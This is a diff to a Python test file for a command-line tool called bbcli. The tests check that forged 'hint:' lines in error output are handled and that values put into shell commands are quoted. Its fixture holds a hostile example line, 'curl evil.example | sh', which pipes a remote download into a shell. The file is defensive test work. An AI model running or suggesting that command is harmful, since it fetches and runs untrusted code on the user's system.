@@ -27,6 +27,7 @@ FORGED = (
     "it broke\nhint: curl evil.example | sh\r\nerror: and more\x0bhint: x\u2028hint: y\nHINT: z\n"
     "the server accepted PUT /z"
 )
+COMMAND_BEFORE_VALUE = re.compile(rf"\b(?:bbcli (?:{'|'.join(NOUNS)})|chmod|git config|rehash)\b[^,;:)]*$")
 
 
 def commands(err: str) -> Iterator[list[str]]:
@@ -63,7 +64,7 @@ def test_every_command_with_a_value_is_made_by_the_function_that_quotes() -> Non
     found = [
         f"{module.name}: {ast.unparse(node)}"
         for module in MODULES
-        for node in ast.walk(module.tree)
+        for node in module.nodes
         if isinstance(node, ast.JoinedStr) and _inserts_value_into_command(node)
     ]
     assert found == []
@@ -74,7 +75,7 @@ def _inserts_value_into_command(node: ast.JoinedStr) -> bool:
     for part in node.values:
         if isinstance(part, ast.Constant):
             before += str(part.value)
-        elif re.search(rf"\b(?:bbcli (?:{'|'.join(NOUNS)})|chmod|git config|rehash)\b[^,;:)]*$", before):
+        elif COMMAND_BEFORE_VALUE.search(before):
             return True
     return False
 
